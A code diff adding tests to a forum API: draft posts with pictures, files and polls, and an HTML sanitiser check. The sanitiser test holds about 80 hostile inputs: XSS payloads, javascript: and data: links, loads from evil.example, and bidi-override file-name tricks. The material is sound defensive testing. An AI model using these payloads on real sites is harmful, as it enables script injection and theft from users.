@@ -46,13 +46,15 @@ const buyer = async () => {
     })
     return { status: answer.statusCode, id: answer.json<{ data?: { id: number } }>().data?.id ?? 0 }
   }
+  const call = async <D>(method: 'GET' | 'PUT', path: string, body?: object) =>
+    app.call<D>(method, `/v1/community/${path}`, body, { token: await app.signIn(order.buyerUserId, 'payer') })
   const thread = async (id: number) =>
     (
       await app.call<{ post: { pictures: { url: string }[] } }>('GET', `/v1/community/posts/${id}`, undefined, {
         token,
       })
     ).data.post
-  return { order, userId: order.buyerUserId, post, upload, thread }
+  return { order, userId: order.buyerUserId, call, post, upload, thread }
 }
 const space = () => app.transact((ctx) => makeSpace(ctx, { sellerId: shop.seller.id }))
 
@@ -122,6 +124,157 @@ test('files are saved by links made for who may read the post; their names and w
   })
   await app.drain()
   expect((await (await app.server()).inject({ method: 'GET', url: link.data.url })).statusCode).toBe(404)
+})
+
+type Draft = {
+  title: string
+  is_question: boolean
+  poll: object | null
+  pictures: { id: number; alt: string; url: string }[]
+  files: { id: number; name: string }[]
+} | null
+
+test('a draft keeps what goes with it, for its writer alone, until it is sent or dropped; what goes with nothing, a day', async () => {
+  const id = await space()
+  const [ada, ben] = [await buyer(), await buyer()]
+  const draft = async (who = ada) => (await who.call<{ draft: Draft }>('GET', `spaces/${id}/draft`)).data.draft
+  const keep = (more: object, who = ada) => who.call('PUT', `spaces/${id}/draft`, { body: '', ...more })
+  const bytes = async (url: string) => (await (await app.server()).inject({ method: 'GET', url })).statusCode
+  const [first, second] = [await ada.upload(id, picture), await ada.upload(id, picture)]
+  const file = await ada.upload(id, Buffer.from('Paper'), 'files', 'paper.txt')
+  const poll = { options: ['Red', ''], is_multiple: true, days: 3 }
+  const whole = { picture_ids: [first.id, second.id], picture_alts: ['A blue square'], file_ids: [file.id], poll }
+  expect((await keep({ ...whole, is_question: true })).status).toBe(200)
+  const kept = await draft()
+  expect(kept).toMatchObject({ is_question: true, poll, files: [{ id: file.id, name: 'paper.txt' }] })
+  expect(kept?.pictures.map(({ id: picture, alt }) => [picture, alt])).toEqual([
+    [first.id, 'A blue square'],
+    [second.id, ''],
+  ])
+  // Another person cannot take it, and keeps their own words all the same.
+  await keep({ body: '<p>Mine</p>', picture_ids: [first.id] }, ben)
+  expect((await draft(ben))?.pictures).toEqual([])
+  const tooMany = { picture_ids: Array.from({ length: 5 }, (_, n) => n + 1) }
+  expect([(await keep(tooMany)).status, (await keep({ poll: { ...poll, days: 2 } })).status]).toEqual([422, 422])
+
+  const third = await ada.upload(id, picture)
+
+  // Sent: what was taken out of it is removed with the draft, or after a day.
+  await keep({ ...whole, picture_ids: [second.id], picture_alts: [] })
+  const { data: post } = await ada.post(id, { picture_ids: [second.id], file_ids: [] })
+  expect(await draft()).toBe(null)
+  await keep({ picture_ids: [third.id] })
+  expect((await ada.thread(post.id)).pictures).toHaveLength(1)
+  await app.drain()
+  expect(await bytes(kept!.pictures[0]!.url)).toBe(200)
+  await app.live(app.clock.now.add({ hours: 49 }).toString())
+  const { rows } = await sql<{
+    id: number
+  }>`select id from community_pictures where user_id = ${ada.userId} order by id`.execute(app.world.db)
+  expect(rows).toEqual([{ id: second.id }, { id: third.id }])
+
+  // Kept for as long as its draft, and gone with it.
+  const [shown] = (await draft())!.pictures
+  expect(await bytes(shown!.url)).toBe(200)
+  await keep({ poll: { ...poll, options: [' ', ''] }, is_question: true })
+  expect(await draft()).toBe(null)
+  await app.drain()
+  expect(await bytes(shown!.url)).toBe(404)
+})
+
+/** What must not act, however it is nested or written; each alone, within words, and in a link. */
+const acting = [
+  '<script>x()</script>',
+  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
+  '<scr<script>ipt>x()</scr</script>ipt>',
+  '<img src=x onerror=x()>',
+  '<img/src/onerror=x()>',
+  '<svg onload=x()><script>x()</script></svg>',
+  '<svg><animate onbegin=x() attributeName=x></svg>',
+  '<math><mtext><table><mglyph><style><img src onerror=x()></style></mglyph></table></mtext></math>',
+  '<iframe src="javascript:x()"></iframe>',
+  '<iframe srcdoc="<script>x()</script>"></iframe>',
+  '<object data="data:text/html,<script>x()</script>"></object>',
+  '<embed src="//evil.example/x.swf">',
+  '<form action="//evil.example"><button>Go</button></form>',
+  '<input autofocus onfocus=x()>',
+  '<body onload=x()>',
+  '<details open ontoggle=x()>',
+  '<video><source onerror=x()></video>',
+  '<style>*{background:url(//evil.example)}</style>',
+  '<link rel=stylesheet href=//evil.example/x.css>',
+  '<meta http-equiv=refresh content="0;url=//evil.example">',
+  '<base href="//evil.example/">',
+  '<p style="position:fixed;inset:0">over all</p>',
+  '<p onclick="x()" class="co-page" id="root">dressed up</p>',
+  '<template><script>x()</script></template>',
+  '<noscript><p title="</noscript><img src=x onerror=x()>"></noscript>',
+  '<!--><script>x()</script-->',
+  '<![CDATA[<script>x()</script>]]>',
+  '<a href="#m-99999999">@Nobody</a>',
+] as const
+const leading = [
+  'javascript:x()',
+  'JaVaScRiPt:x()',
+  'java\tscript:x()',
+  '&#106;avascript:x()',
+  ' javascript:x()',
+  '\u0001javascript:x()',
+  'data:text/html,<script>x()</script>',
+  'vbscript:x()',
+  'blob:https://evil.example/1',
+  'file:///etc/passwd',
+  '//evil.example" onclick="x()',
+  "https://evil.example/' onmouseover='x()",
+] as const
+const turning = [
+  '\u202E',
+  '\u202D',
+  '\u2066',
+  '\u2067',
+  '\u061C',
+  '\u200F',
+  '\u0007',
+  '\u0000',
+  '&#8238;',
+  '&#x202e;',
+  '\uFEFF',
+  '\u2028',
+]
+const hostile = [
+  ...acting.flatMap((each) => [each, `<p>Before ${each} behind</p>`]),
+  ...leading.map((each) => `<p>See <a href="${each}">this</a></p>`),
+  ...turning.map((each) => `<p>Invoice${each}cod.exe</p>`),
+]
+
+test(`of ${hostile.length} hostile posts none acts, turns its surroundings or leads where a link may not`, async () => {
+  expect(hostile.length).toBeGreaterThanOrEqual(80)
+  const id = await space()
+  const ada = await buyer()
+  const kept: string[] = []
+  for (const [at, body] of hostile.entries()) {
+    const { status, data } = await ada.post(id, { title: `${at} ${body}`.slice(0, 150), body: `<p>Words</p>${body}` })
+    // What holds a sign no text can have is refused whole.
+    if (status === 422) continue
+    expect([status, body]).toEqual([200, body])
+    const { post } = (await ada.call<{ post: { title: string; body: string } }>('GET', `posts/${data.id}`)).data
+    expect(post.body).toContain('Words')
+    expect(post.title + post.body).not.toMatch(/[\p{Cc}\u202A-\u202E\u2066-\u2069]/u)
+    expect(post.body).not.toMatch(/&#(8238|x202e);/i)
+    kept.push(post.body)
+  }
+  expect(kept.length).toBeGreaterThanOrEqual(hostile.length - 2)
+  const tags = new Set(
+    kept.flatMap((body) => [...body.matchAll(/<\/?([a-z]+)/gi)].map(([, tag]) => tag!.toLowerCase())),
+  )
+  const attributes = kept.flatMap((body) => [...body.matchAll(/<[a-z]+\s([^>]*)>/gi)].map(([, all]) => all!))
+  expect(
+    [...tags].filter(
+      (tag) => !['p', 'a', 'br', 'strong', 'em', 'ul', 'ol', 'li', 'h2', 'h3', 'blockquote', 'code'].includes(tag),
+    ),
+  ).toEqual([])
+  for (const each of attributes)
+    expect(each).toMatch(/^href="(https?:\/\/|\/|mailto:|#)[^"]*"( rel="[^"]*")?( target="_blank")?$/)
 })
 
 test('of posts sent at once in a slowed space one is taken', async () => {
